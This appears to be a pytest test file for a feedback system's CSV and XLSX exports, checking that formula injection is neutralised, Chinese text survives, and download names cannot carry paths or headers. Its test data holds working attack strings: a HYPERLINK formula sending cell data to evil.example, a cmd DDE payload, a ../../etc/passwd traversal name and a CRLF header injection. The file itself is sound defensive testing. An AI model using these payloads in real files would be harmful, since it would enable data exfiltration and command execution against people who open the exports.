"""CSV and XLSX exports: formulas never run, Chinese survives, markup stays text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook

from feedback.exports import content_disposition, csv_response, neutralise, xlsx_response

ATTACKS = [
    ('=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
     '\'=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'),
    ("=1+1", "'=1+1"),
    ("+86 138 0000 0000", "'+86 138 0000 0000"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1,2)", "'@SUM(1,2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("＝1+1", "'＝1+1"),  # full-width forms typed by Chinese input methods
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(1)", "'＠SUM(1)"),
    ("  =1+1", "'  =1+1"),  # leading spaces do not protect a formula everywhere
    ("\u3000=1+1", "'\u3000=1+1"),
]
@pytest.fixture
def app(make_app):
    """No database needed: exports only format what they are given."""
    return make_app()


HARMLESS = ["服务很好", "a=b", "1-2", "", "邮箱 wang@example.cn", "'already quoted"]


@pytest.mark.parametrize(("text", "expected"), ATTACKS)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text, expected):
    assert neutralise(text) == expected


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [-5, 3.5, Decimal("-1.25"), 0, True, None,
                                   date(2026, 1, 1), datetime(2026, 1, 1, tzinfo=UTC)])
def test_numbers_and_dates_are_untouched(value):
    assert neutralise(value) is value


HEADER = ["查询编号", "窗口", "内容", "评价时间", "日期", "分数"]
ROWS = [
    ["20261201-AB", "不动产登记窗口", '=HYPERLINK("http://evil.example","点此")',
     datetime(2026, 12, 1, 2, 30, tzinfo=UTC), date(2026, 12, 1), 4],
    ["20261201-CD", "公积金,窗口", '她说："排队太久"\n第二行', None, None, -3],
    ["20261201-EF", "<b>物业</b>", "<script>alert('x')</script>", None, None, 2.5],
    ["20261201-GH", "＠窗口", "-10", None, None, Decimal("99.5")],
]


def _csv(app):
    with app.test_request_context():
        response = csv_response("差评案件 2026年12月.csv", HEADER, iter(ROWS))
        return response, response.get_data()


def test_csv_is_utf8_with_a_bom_and_reads_back_in_chinese(app):
    response, data = _csv(app)
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADER
    assert rows[1][:3] == ["20261201-AB", "不动产登记窗口",
                           '\'=HYPERLINK("http://evil.example","点此")']
    assert rows[1][3] == "2026-12-01 10:30:00"  # shown in the local time of Asia/Shanghai
    assert rows[1][4:] == ["2026-12-01", "4"]
    assert rows[2] == ["20261201-CD", "公积金,窗口", '她说："排队太久"\n第二行', "", "", "-3"]
    assert rows[3][1:3] == ["<b>物业</b>", "<script>alert('x')</script>"]
    assert rows[4][1:3] == ["'＠窗口", "'-10"]
    assert rows[4][5] == "99.5"


def test_csv_quotes_as_rfc_4180_says(app):
    _response, data = _csv(app)
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n")
    assert '"公积金,窗口","她说：""排队太久""\n第二行"' in text
    assert text.count("\r\n") == len(ROWS) + 1  # the line break inside a field is quoted


def test_download_names_keep_chinese_and_have_an_ascii_fallback(app):
    response, _data = _csv(app)
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert disposition.isascii()
    encoded = disposition.split("filename*=UTF-8''", 1)[1]
    assert unquote(encoded) == "差评案件 2026年12月.csv"
    assert 'filename="202612.csv"' in disposition  # what ASCII can keep of the name
    assert response.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize("name", ['../../etc/passwd', 'a"b\r\nSet-Cookie: x.csv', "案件\\x.csv"])
def test_download_names_cannot_carry_paths_or_headers(name):
    disposition = content_disposition(name)
    assert "\r" not in disposition and "\n" not in disposition
    fallback = disposition.split('filename="', 1)[1].split('"', 1)[0]
    assert "/" not in fallback and "\\" not in fallback and '"' not in fallback
    real = unquote(disposition.split("filename*=UTF-8''", 1)[1])
    assert "/" not in real and "\\" not in real and "\r" not in real


def test_csv_streams_a_large_export_without_building_it_first(app):
    produced = []

    def rows():
        for n in range(5000):
            produced.append(n)
            yield [n, f"第{n}条"]

    with app.test_request_context():
        response = csv_response("big.csv", ["n", "text"], rows())
        assert produced == []  # nothing read before the body is sent
        chunks = list(response.response)
    assert len(chunks) > 1
    lines = b"".join(chunks).decode("utf-8-sig").split("\r\n")
    assert lines[1] == "0,第0条" and lines[5000] == "4999,第4999条"


def _workbook(app, rows=ROWS, sheet="差评案件"):
    with app.test_request_context():
        response = xlsx_response("差评案件.xlsx", HEADER, iter(rows), sheet=sheet)
        data = response.get_data()
    return response, load_workbook(io.BytesIO(data))


def test_xlsx_reads_back_with_chinese_dates_and_numbers(app):
    response, workbook = _workbook(app)
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert unquote(response.headers["Content-Disposition"].split("''", 1)[1]) == "差评案件.xlsx"
    ws = workbook["差评案件"]
    values = [[cell.value for cell in row] for row in ws.iter_rows()]
    assert values[0] == HEADER
    assert values[1][:2] == ["20261201-AB", "不动产登记窗口"]
    assert values[1][3] == datetime(2026, 12, 1, 10, 30)  # a real date, in local time
    assert ws["D2"].is_date and ws["D2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert ws["E2"].is_date and ws["E2"].value.date() == date(2026, 12, 1)
    assert values[1][5] == 4 and values[2][5] == -3 and values[3][5] == 2.5
    assert values[2][2] == '她说："排队太久"\n第二行'
    assert values[3][1:3] == ["<b>物业</b>", "<script>alert('x')</script>"]


def test_xlsx_never_holds_a_formula(app):
    _response, workbook = _workbook(app)
    ws = workbook.active
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert ws["C2"].value == '\'=HYPERLINK("http://evil.example","点此")'
    assert ws["C2"].data_type == "s"
    assert ws["B5"].value == "'＠窗口" and ws["C5"].value == "'-10"


def test_xlsx_header_is_bold_and_frozen(app):
    _response, workbook = _workbook(app)
    ws = workbook.active
    assert all(cell.font.bold for cell in ws[1])
    assert not ws["A2"].font.bold
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["B"].width >= 16  # 不动产登记窗口: seven wide characters


def test_xlsx_keeps_odd_text_as_text(app):
    rows = [["#N/A", "控制\x01字符\x1f", "1/2", "=", "x" * 40_000, "", True]]
    _response, workbook = _workbook(app, rows=rows, sheet="a/b:c*?[d]")
    ws = workbook.active
    assert ws.title == "a_b_c___d_"
    assert ws["A2"].value == "#N/A" and ws["A2"].data_type == "s"  # not an error cell
    assert ws["B2"].value == "控制字符"  # characters XML cannot hold are dropped, not a 500
    assert ws["C2"].value == "1/2"
    assert ws["D2"].value == "'="
    assert len(ws["E2"].value) == 32_767  # a cell's limit
    assert ws["G2"].value is True
